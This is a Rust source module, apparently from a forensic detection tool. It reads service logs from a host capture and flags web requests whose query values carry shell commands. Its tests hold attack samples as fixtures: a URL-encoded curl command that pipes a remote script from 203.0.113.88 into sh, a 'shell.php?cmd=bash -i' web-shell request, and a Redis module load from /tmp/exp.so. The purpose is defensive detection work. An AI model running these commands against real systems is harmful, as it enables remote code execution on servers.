//! What network services logged about their clients ([`HostModel::service_logs`]): the lines of the
//! captured logs whose format [`crate::parse::service_log::sniff`] recognises (Redis, web access logs,
//! PostgreSQL), in file order, the lines that matter to how an attacker got in. Read by the service-log
//! detectors and the entry-point inference; neither opens a log itself.
//!
//! Logs are read under `/var/log` and under the log directories of the running services themselves
//! ([`service_log_dirs`]): an application server under `/opt` (Tomcat, Confluence, WebLogic) writes its
//! access log below its own base directory, never under `/var/log`.
//!
//! Auth logs and journals have their own fact ([`super::auth`]); a log in another format is skipped.

use std::sync::Arc;

use super::HostModel;
use crate::indicators::{Indicators, Kind};
use crate::parse::service_log::{self, LogFormat, LogLine};

/// Lines kept over all service logs; a shaped bundle cannot make the list unbounded.
pub const MAX_LINES: usize = 100_000;

/// One line that matters, with the log it was read from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ServiceLogLine {
    /// The captured log's path (shared by its lines).
    pub path: Arc<[u8]>,
    pub format: LogFormat,
    pub log: LogLine,
}

impl ServiceLogLine {
    /// `path:line`, escaped, for evidence lines.
    pub fn location(&self) -> String {
        format!(
            "{}:{}",
            minetrace_schemas::escape_bytes(&self.path),
            self.log.line
        )
    }
}

/// `%xx` and `+` decoded.
pub fn percent_decode(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while let Some(&b) = s.get(i) {
        let hex = |o: usize| s.get(i + o).and_then(|c| (*c as char).to_digit(16));
        match (b, hex(1), hex(2)) {
            (b'%', Some(h), Some(l)) => {
                out.push(u8::try_from(h * 16 + l).unwrap_or(b'?'));
                i += 3;
            }
            (b'+', _, _) => {
                out.push(b' ');
                i += 1;
            }
            _ => {
                out.push(b);
                i += 1;
            }
        }
    }
    out
}

/// A request target's path, decoded, without its query.
pub fn request_path(target: &[u8]) -> Vec<u8> {
    percent_decode(target.split(|b| *b == b'?').next().unwrap_or(target))
}

/// The first query value of a request that is a shell command (decoded): a download, a decode into a
/// shell, a bash socket, or a command that is a shell or downloader (`shell_or_downloader`).
pub fn request_command(target: &[u8], iocs: &Indicators) -> Option<Vec<u8>> {
    let query = target.splitn(2, |b| *b == b'?').nth(1)?;
    query
        .split(|b| *b == b'&')
        .map(|kv| percent_decode(kv.splitn(2, |b| *b == b'=').nth(1).unwrap_or(kv)))
        .find(|v| {
            let line = crate::parse::shell_line::analyze(v);
            let shell = line.commands.iter().any(|c| {
                std::str::from_utf8(c).is_ok_and(|c| iocs.contains(Kind::ShellOrDownloader, c))
            });
            // A shell or downloader with an option or a path, or in a pipeline or sequence: a command,
            // not a search for "bash tutorial".
            let invoked = crate::parse::words(v)
                .skip(1)
                .any(|w| w.starts_with(b"-") || w.contains(&b'/'))
                || line.commands.len() > 1;
            line.download
                || line.download_to_shell
                || line.decode_to_shell
                || line.dev_tcp
                || (shell && invoked)
        })
}

/// JVM system properties naming the base or home directory an application server writes its `logs/`
/// under (Tomcat and Confluence's `catalina.base`/`catalina.home`, Jetty's, WebLogic's domain home).
const BASE_PROPERTIES: &[&[u8]] = &[
    b"-Dcatalina.base=",
    b"-Dcatalina.home=",
    b"-Djetty.base=",
    b"-Djetty.home=",
    b"-Dweblogic.home=",
    b"-Ddomain.home=",
];

/// Log directory names below a service's base or working directory.
const LOG_SUBDIRS: &[&[u8]] = &[b"logs/", b"log/"];

/// The log directories of the running services, from the process table: `logs/` and `log/` below each
/// process's working directory and below the base directory its command line names
/// ([`BASE_PROPERTIES`]). The root and system directories are not bases.
pub fn service_log_dirs(model: &HostModel) -> Vec<Vec<u8>> {
    let mut bases: Vec<&[u8]> = Vec::new();
    for p in &model.processes {
        let cwd = p.cwd.as_ref().map(|c| c.as_bytes());
        let named = p.argv().into_iter().filter_map(|a| {
            BASE_PROPERTIES
                .iter()
                .find_map(|prop| a.strip_prefix(*prop))
        });
        for base in cwd.into_iter().chain(named) {
            let base = base.strip_suffix(b"/").unwrap_or(base);
            if base.len() > 1 && base.starts_with(b"/") && !bases.contains(&base) {
                bases.push(base);
            }
        }
    }
    let mut out = Vec::new();
    for base in bases {
        for sub in LOG_SUBDIRS {
            let mut dir = base.to_vec();
            dir.push(b'/');
            dir.extend_from_slice(sub);
            if !out.contains(&dir) {
                out.push(dir);
            }
        }
    }
    out
}

/// Whether a captured file is read as a service log: a regular file under `/var/log/` or a running
/// service's log directory that is not an auth log or a journal.
fn candidate(path: &[u8], dirs: &[Vec<u8>]) -> bool {
    let name = crate::parse::basename(path);
    (path.starts_with(b"/var/log/") || dirs.iter().any(|d| path.starts_with(d)))
        && !super::auth::is_auth_log(path)
        && !name.ends_with(b".journal")
        && !name.ends_with(b".journal~")
}

pub fn collect(model: &HostModel) -> Vec<ServiceLogLine> {
    let mut out = Vec::new();
    let dirs = service_log_dirs(model);
    for f in model
        .regular_files()
        .filter(|f| candidate(f.path.as_bytes(), &dirs))
    {
        let Some(bytes) = model.content(f) else {
            continue;
        };
        let Some(format) = service_log::sniff(bytes) else {
            continue;
        };
        let path: Arc<[u8]> = Arc::from(f.path.as_bytes());
        for log in service_log::parse(format, bytes) {
            if out.len() >= MAX_LINES {
                return out;
            }
            out.push(ServiceLogLine {
                path: Arc::clone(&path),
                format,
                log,
            });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::model::fixture;
    use crate::parse::service_log::{LogEvent, LogFormat};

    #[test]
    fn an_application_servers_own_logs_are_read() {
        let access: &[u8] =
            b"10.12.0.31 - - [10/Jun/2025:10:58:40 +0000] \"GET /index.jsp HTTP/1.1\" 200 143\n\
203.0.113.88 - - [10/Jun/2025:11:02:16 +0000] \"GET /mgmt/cmd.jsp?c=id HTTP/1.1\" 200 38\n";
        let files = || {
            vec![
                fixture::file(
                    b"/opt/tomcat/logs/localhost_access_log.2025-06-10.txt",
                    Some(access),
                ),
                fixture::file(b"/srv/app/data/access.log", Some(access)),
            ]
        };
        let tomcat = fixture::process(
            700,
            1,
            997,
            b"/usr/lib/jvm/java-17/bin/java",
            &[
                b"/usr/lib/jvm/java-17/bin/java",
                b"-Dcatalina.base=/opt/tomcat",
                b"org.apache.catalina.startup.Bootstrap",
                b"start",
            ],
        );
        let with = fixture::model_with_processes(files(), vec![], vec![tomcat]);
        let paths: Vec<&[u8]> = with.service_logs.iter().map(|l| &l.path[..]).collect();
        assert_eq!(
            paths,
            vec![&b"/opt/tomcat/logs/localhost_access_log.2025-06-10.txt"[..]]
        );
        // Without the service running, nothing says the directory is a service's.
        assert!(fixture::model(files(), vec![]).service_logs.is_empty());
    }

    #[test]
    fn logs_recognised_by_their_lines_wherever_they_are() {
        let model = fixture::model(
            vec![
                fixture::file(
                    b"/var/log/app/custom-redis.log",
                    Some(b"9:M 02 Jun 2025 14:07:14.503 * Module 'system' loaded from /tmp/exp.so\n9:M 02 Jun 2025 14:07:15.000 * DB saved on disk\n"),
                ),
                fixture::file(
                    b"/var/log/auth.log",
                    Some(b"Jan  1 00:00:01 h sshd[9]: Accepted password for root from 10.0.0.9 port 22 ssh2\n"),
                ),
                fixture::file(b"/etc/redis/redis.log", Some(b"9:M 02 Jun 2025 14:07:14.503 * Module 'x' loaded from /tmp/y.so\n9:M 02 Jun 2025 14:07:14.503 * x\n")),
            ],
            vec![],
        );
        assert_eq!(model.service_logs.len(), 1);
        let l = &model.service_logs[0];
        assert_eq!(l.format, LogFormat::Redis);
        assert!(
            matches!(&l.log.event, LogEvent::RedisModuleLoaded { name, .. } if name == "system")
        );
        assert_eq!(l.location(), "/var/log/app/custom-redis.log:1");
    }

    #[test]
    fn commands_in_requests() {
        let iocs = crate::indicators::Indicators::builtin();
        let cmd = super::request_command(
            b"/mgmt/cmd.jsp?x=1&c=curl%20-fsSL%20http%3A%2F%2F203.0.113.88%2Ft.sh%7Csh",
            &iocs,
        );
        assert_eq!(
            cmd.as_deref(),
            Some(&b"curl -fsSL http://203.0.113.88/t.sh|sh"[..])
        );
        assert!(super::request_command(b"/shell.php?cmd=bash+-i", &iocs).is_some());
        assert!(
            super::request_command(b"/search?q=shell+scripting+tutorial&page=2", &iocs).is_none()
        );
        assert!(super::request_command(b"/products/7", &iocs).is_none());
        assert_eq!(
            super::request_path(b"/a%20b/x.php?c=id"),
            b"/a b/x.php".to_vec()
        );
    }
}
